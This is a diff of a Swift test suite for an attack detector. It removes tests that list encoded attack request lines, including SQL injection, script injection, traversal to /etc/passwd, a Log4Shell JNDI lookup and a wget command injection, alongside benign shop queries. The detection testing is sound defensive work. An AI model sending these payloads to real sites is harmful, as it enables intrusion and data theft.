@@ -20,34 +20,6 @@ struct DetectorTests {
         }
     }
 
-    @Test(
-        "Attacks in the request line are found, however they are encoded",
-        arguments: [
-            ("/p?id=1%20UNION%20SELECT%20password", AttackFamily.sqlInjection), ("/p?id=1+union+all+select+1", .sqlInjection),
-            ("/p?id=1%2527%2520or%25201=1", .sqlInjection), ("/?q=%3CScRiPt%3Ealert(1)", .crossSiteScripting),
-            ("/static/..%2f..%2f..%2fetc/passwd", .pathTraversal), ("/?x=$%7bjndi:ldap://e%7d", .log4Shell), ("/.env", .probing),
-            ("/?c=;wget%20http://x", .commandInjection),
-        ])
-    func signatures(uri: String, family: AttackFamily) throws {
-        var decoder = RequestDecoder()
-        let found = Signatures().match(request: decoder.decode(Array(uri.utf8)[...]))
-        #expect(found?.family == family, "\(uri)")
-    }
-
-    @Test(
-        "Ordinary shop requests are left alone",
-        arguments: [
-            "/catalogsearch/result/?q=select+union+jacket", "/search?q=o%27neill", "/p?q=%3C3", "/women/tops.html?p=2&color=49",
-            "/checkout/cart/add/uenc/aHR0cHM6Ly9zaG9w/product/14/", "/media/catalog/product/a/b/ab-1.jpg",
-            "/?utm_source=a&gclid=x_y-z",
-            "/search?q=drop+earrings", "/search?q=50%25+off", "/search?q=r%e9gion",
-        ])
-    func ordinary(uri: String) {
-        var decoder = RequestDecoder()
-        let found = Signatures().match(request: decoder.decode(Array(uri.utf8)[...]))
-        #expect(found == nil, "\(uri)")
-    }
-
     @Test("One signature makes no offender; repetition does")
     func repetition() throws {
         let detector = Detector(exempt: [])
